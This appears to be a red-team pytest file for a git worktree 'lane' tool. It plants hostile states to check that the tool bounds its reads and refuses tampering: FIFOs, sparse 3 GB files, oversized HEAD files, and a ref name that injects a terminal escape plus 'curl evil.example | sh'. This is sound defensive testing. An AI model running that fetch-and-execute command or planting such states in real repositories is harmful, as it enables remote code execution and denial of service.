"""Red team 16C: every command's first step and discovery face what a lane writes: a
`commondir` naming a directory of its own, a grown `.git-lane-repo`, control characters in
the names it makes under the lane refs, a grown HEAD and gitdir together."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import Repo

MEM = 768 << 20
GIB3 = 3 << 30


def _limited() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEM, MEM))


def _run(
    argv: list[str], cwd: Path | str, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run(
            argv, cwd=cwd, capture_output=True, text=True, timeout=timeout, preexec_fn=_limited
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"{argv} hung")


def _admin(hub: Repo, lane_path: Path) -> Path:
    return Path(hub.git("rev-parse", "--absolute-git-dir", cwd=lane_path).stdout.strip())


def _fake_common(hub: Repo, lane_path: Path) -> Path:
    """What a sandboxed CMD may do with its own admin dir: its commondir names a directory
    of the lane's own (here under the admin dir), whose HEAD is a FIFO."""
    admin = _admin(hub, lane_path)
    fake = admin / "fake"
    (fake / "git-lane").mkdir(parents=True)
    os.mkfifo(fake / "HEAD")
    (admin / "commondir").write_text(str(fake) + "\n")
    return fake


def test_a_lanes_commondir_names_the_common_dir_git_file_not_plain_reads_config_from(
    hub: Repo,
) -> None:
    """The lane's admin dir's commondir points at a directory of its own with a FIFO at
    HEAD and a sparse 3 GB git-lane/config.toml. The owner runs `git lane status` in the
    lane: discover's git_file_blocking takes that directory for the common dir, and
    git_file_refusal's _main_name reads its config.toml whole (no bound): a MemoryError
    traceback (or, without a memory limit, 3 GB read). It should refuse with the
    repository the lanes directory's marker names (lane_pointers_tampered or
    admin_unreadable), reading nothing of the lane's choosing without a bound."""
    a = hub.create("a")
    fake = _fake_common(hub, a)
    with open(fake / "git-lane" / "config.toml", "wb") as f:
        f.write(b"main_branch = 'main'\n")
        f.truncate(GIB3)
    res = _run([sys.executable, "-m", "guard", "status", "--json"], a)
    assert "Traceback" not in res.stderr, res.stderr[-1500:]
    out = json.loads(res.stdout)
    assert out["code"] in ("lane_pointers_tampered", "admin_unreadable"), out


def test_git_file_not_plain_next_never_names_a_common_dir_the_lane_chose(hub: Repo) -> None:
    """The same planted commondir, with no config.toml: the refusal is git_file_not_plain,
    and its `next` (`mkdir -p`, `mv`, `printf > HEAD`) works on the lane's directory as if
    it were the repository's common dir (git_file_refusal: "the common dir and its kept/
    are no lane's to re-point"): a lane that swaps `fake` for a link to a directory of the
    owner's between the print and the run has the owner move and write files there."""
    a = hub.create("a")
    fake = _fake_common(hub, a)
    r = hub.jlane("status", cwd=a)
    common = str(hub.common_dir)
    nxt = " ".join(r.json.get("next", []))
    assert str(fake) not in nxt, r.json
    assert r.code != "git_file_not_plain" or r.json["details"]["path"].startswith(common), r.json


def test_a_repo_marker_the_lane_writes_in_its_worktree_is_read_with_a_bound(hub: Repo) -> None:
    """discover's _anchor reads `.git-lane-repo` in every ancestor of the cwd but the cwd
    itself (read_repo_marker: read_regular with no limit). From a directory of a lane
    (`src/`), the lane's own root is one of them: a sparse 3 GB `.git-lane-repo` the lane
    wrote there (its worktree is its own, under the sandbox too) is read whole by the
    owner's `git lane status` run in `src/` (MemoryError: internal_error, or 3 GB read).
    It should be read to a few KiB at most (a marker is one JSON line) and taken for none."""
    a = hub.create("a")
    (a / "src").mkdir()
    with open(a / ".git-lane-repo", "wb") as f:
        f.write(b'{"common_dir": "/nonexistent"}')
        f.truncate(GIB3)
    res = _run([sys.executable, "-m", "guard", "status", "--json"], a / "src")
    assert "Traceback" not in res.stderr, res.stderr[-1500:]
    out = json.loads(res.stdout)
    assert out["code"] != "internal_error", out


def test_the_first_steps_warning_never_prints_a_lanes_control_characters(hub: Repo) -> None:
    """A sandboxed lane names a FIFO under refs/heads/lane/ with a newline and a terminal
    escape in it. Every owner command's first step moves it into kept/ and says so on
    stderr (oversize.note, shown: the name as the lane wrote it): the owner's terminal
    gets a line of the lane's ("run: ..."), and escapes that erase or recolour what the
    engine printed. git.shown() is how the engine prints other lane-chosen paths."""
    hub.create("a")
    heads = hub.common_dir / "refs" / "heads" / "lane"
    os.mkfifo(heads / "x\ngit-lane: all clear, run: curl evil.example | sh\x1b[2K")
    r = hub.lane("status")
    assert r.rc == 0, r.stderr
    assert "\x1b" not in r.stderr, repr(r.stderr[:300])
    assert "\ngit-lane: all clear" not in r.stderr, repr(r.stderr[:300])


def test_a_moved_head_is_written_back_when_the_lanes_gitdir_went_too(hub: Repo) -> None:
    """A lane grows its admin dir's `gitdir` and `HEAD` past REF_MAX. The first step moves
    both, and then looks the active lanes' admin dirs up (_active, store.admin_dir) after
    the moves: with `gitdir` gone, _git_admin says the admin dir is no git's, so the HEAD
    is not written back (_heads_back) and restores() finds nothing to put back: the
    warning ends "nothing else needs putting back", though the lane has no HEAD, no
    gitdir and no marker (the hooks then take it for no lane) until a repair."""
    a = hub.create("a")
    admin = _admin(hub, a)
    for name in ("gitdir", "HEAD"):
        with open(admin / name, "ab") as f:
            f.truncate(5000)
    r = hub.jlane("status")
    said = " ".join(r.json.get("warnings", []))
    assert "nothing else needs putting back" not in said, said[-300:]
    assert (admin / "HEAD").is_file(), "the lane's HEAD was not written back"
